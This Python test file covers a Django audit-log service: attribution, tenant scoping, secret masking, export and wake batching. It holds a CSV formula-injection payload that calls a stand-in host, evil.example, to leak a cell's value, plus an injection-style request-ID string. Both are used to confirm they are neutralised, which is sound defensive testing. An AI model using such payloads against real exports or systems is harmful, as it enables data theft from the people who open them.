"""The audit log: complete, attributed, append-only in the database, searchable and exportable."""

import csv
import io
import json

import pytest
from django.db import transaction

from audit import services as audit_services
from audit.context import ActorKind, acting_as, system_actor
from audit.models import AuditEvent
from audit.services import WAKE_AFTER, record, record_many
from tests.conftest import cluster_data

pytestmark = pytest.mark.django_db


@pytest.mark.django_db(transaction=True)
def test_recording_outside_a_transaction_is_refused(world):
    with pytest.raises(RuntimeError, match="inside the transaction"):
        record("tenant.touch", world.tenant_a)


@pytest.mark.django_db(transaction=True)
def test_recording_many_outside_a_transaction_is_refused(world):
    with pytest.raises(RuntimeError, match="inside the transaction"):
        record_many("tenant.touch", [(world.tenant_a, None, None)])


def test_events_recorded_in_one_insert_are_those_recorded_one_by_one(world):
    fields = ["actor_kind", "actor_label", "actor_id", "tenant_id", "action", "object_type", "object_id",
              "object_repr", "before", "after", "message", "request_id", "client_request_id", "source_ip"]  # fmt: skip
    changes = [(world.tenant_a, {"n": 1}, {"n": 2}), (world.tenant_b, None, {"n": 3})]
    tenant = world.tenant_a.pk
    with acting_as(system_actor("audit-test")), transaction.atomic():
        one = [record("tenant.touch", obj, before=b, after=a, tenant=tenant, message="m") for obj, b, a in changes]
        many = record_many("tenant.touch", changes, tenant=tenant, message="m")
    assert [e.pk for e in many] and all(e.pk > one[-1].pk for e in many)  # saved, after the others
    stored = {e.pk: e for e in AuditEvent.objects.filter(pk__in=[e.pk for e in one + many])}
    for single, bulk in zip(one, many, strict=True):
        a, b = stored[single.pk], stored[bulk.pk]
        assert [getattr(a, f) for f in fields] == [getattr(b, f) for f in fields]


def test_api_changes_carry_actor_request_id_source_and_before_after(world, client):
    client.force_login(world.member_a)
    body = json.dumps(cluster_data(tenant=world.tenant_a.pk))
    response = client.post("/api/v1/clusters/", body, content_type="application/json",
                           headers={"X-Request-ID": "req-abc-12345"}, REMOTE_ADDR="192.0.2.7")  # fmt: skip
    assert response.status_code == 201 and response["X-Client-Request-ID"] == "req-abc-12345"
    server_id = response["X-Request-ID"]
    assert server_id != "req-abc-12345" and len(server_id) == 32
    pk = response.json()["id"]
    client.post(f"/api/v1/clusters/{pk}/submit/", headers={"X-Request-ID": "req-def-67890"})
    created = AuditEvent.objects.get(action="cluster.create", object_id=str(pk))
    actor = (created.actor_kind, created.actor_label, created.actor_id)
    assert actor == (ActorKind.USER, "member-a", world.member_a.pk)
    assert created.request_id == server_id and created.client_request_id == "req-abc-12345"
    assert created.source_ip == "192.0.2.7"
    assert created.before is None and created.after["state"] == "draft"
    submitted = AuditEvent.objects.get(action="cluster.submit", object_id=str(pk))
    assert submitted.before["state"] == "draft" and submitted.after["state"] == "submitted"
    assert submitted.client_request_id == "req-def-67890" and submitted.tenant_id == world.tenant_a.pk
    assert submitted.request_id not in (server_id, "req-def-67890")


def test_a_malformed_request_id_is_dropped(world, client):
    client.force_login(world.member_a)
    response = client.get("/api/v1/clusters/", headers={"X-Request-ID": "bad id; drop table"})
    assert response["X-Request-ID"] != "bad id; drop table" and len(response["X-Request-ID"]) == 32
    assert "X-Client-Request-ID" not in response


def test_a_client_cannot_make_its_request_share_another_requests_server_id(world, client):
    client.force_login(world.owner_a)
    first = client.post(f"/api/v1/clusters/{_draft(world).pk}/submit/")
    stolen = first["X-Request-ID"]
    second = client.get("/api/v1/clusters/", headers={"X-Request-ID": stolen})
    assert second["X-Request-ID"] != stolen and second["X-Client-Request-ID"] == stolen
    assert AuditEvent.objects.filter(request_id=stolen).count() == 1


def _draft(world):
    from tenants import services
    from tests.conftest import service_data

    return services.create_cluster(world.tenant_a, world.owner_a, service_data())


def test_tenant_members_see_only_their_tenants_events(world, api):
    a_events = api(world.member_a).get("/api/v1/audit-events/?limit=1000").json()["results"]
    assert a_events and {e["tenant"] for e in a_events} <= {world.tenant_a.pk, None}
    everything = api(world.admin).get("/api/v1/audit-events/?limit=1000").json()["results"]
    assert len(everything) == AuditEvent.objects.count()


def test_events_export_as_csv_and_json_with_filters(world, api):
    client = api(world.admin)
    rows = list(csv.DictReader(io.StringIO(b"".join(client.get(
        "/api/v1/audit-events/export/?action=tenant.").streaming_content).decode())))  # fmt: skip
    assert {r["action"] for r in rows} == {"tenant.create"} and len(rows) == 2
    assert json.loads(rows[0]["after"])["slug"] in ("tenant-a", "tenant-b")
    data = json.loads(b"".join(client.get("/api/v1/audit-events/export/?as=json&q=tenant-b").streaming_content))
    assert data and all("tenant-b" in (e["object_repr"] + json.dumps(e["after"])) for e in data)


def test_the_audit_page_searches_and_exports(world, client):
    client.force_login(world.owner_a)
    page = client.get("/audit/?action=membership.")
    assert page.status_code == 200 and b"membership.create" in page.content and b"tenant-b" not in page.content
    export = client.get("/audit/?action=membership.&export=csv")
    assert export["Content-Type"] == "text/csv"


def test_secrets_never_reach_the_audit_log(world, api):
    api(world.owner_a).post("/api/v1/tokens/", {"name": "ci"}, format="json")
    event = AuditEvent.objects.get(action="token.create")
    assert event.after["token_hash"] == "********"


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_formulas(world, api, prefix):
    from tenants import services
    from tests.conftest import service_data

    payload = prefix + 'HYPERLINK("http://evil.example/?"&A1,"click")'
    services.create_cluster(world.tenant_a, world.owner_a, service_data(justification=payload, name="x-1"))
    with transaction.atomic():
        record("tenant.note", world.tenant_a, message=payload, tenant=world.tenant_a)
    body = b"".join(api(world.admin).get("/api/v1/audit-events/export/?action=tenant.note").streaming_content)
    rows = list(csv.DictReader(io.StringIO(body.decode(), newline="")))
    assert rows[0]["message"] == "'" + payload
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values() if cell)


def _queued_tasks(redis_client) -> list[str]:
    """The task names waiting in Celery's default queue on the real broker."""
    return [json.loads(m)["headers"]["task"] for m in redis_client.lrange("celery", 0, -1)]


class _HeldTimer:
    """A wake timer that fires only when the test says so (no sleeping, no race with the clock)."""

    started: list["_HeldTimer"] = []

    def __init__(self, interval, function):
        self.interval, self.function, self.daemon = interval, function, False
        _HeldTimer.started.append(self)

    def start(self):
        pass


@pytest.fixture
def held_wakes(monkeypatch):
    """Wake timers the test fires itself; afterwards no wake is pending (the next commit schedules a real one)."""
    if audit_services._wake_timer is not None:
        audit_services._wake_timer.cancel()  # an earlier test's real wake: not this test's to count
    audit_services._wake_timer = None
    monkeypatch.setattr(audit_services, "_new_timer", _HeldTimer)
    monkeypatch.setattr(_HeldTimer, "started", [])
    yield _HeldTimer.started
    audit_services._wake_timer = None  # never leave a held (or cancelled) timer that would swallow later wakes


@pytest.mark.django_db(transaction=True)
def test_a_burst_of_audited_commits_wakes_the_outbox_readers_once_after_the_burst(world, redis_client, held_wakes):
    redis_client.delete("celery")
    for _ in range(50):  # a pool's nodes reporting after a change: one audited commit each
        with transaction.atomic():
            record("tenant.touch", world.tenant_a)
    assert len(held_wakes) == 1 and held_wakes[0].interval == WAKE_AFTER
    assert _queued_tasks(redis_client) == []  # nothing sent before the wake's time comes
    held_wakes[0].function()  # the wake's time has come
    assert _queued_tasks(redis_client) == ["webhooks.tasks.dispatch"]
    with transaction.atomic():
        record("tenant.touch", world.tenant_a)  # after the wake went out: a wake of its own
    assert len(held_wakes) == 2
    held_wakes[1].function()
    assert _queued_tasks(redis_client) == ["webhooks.tasks.dispatch"] * 2
    redis_client.delete("celery")
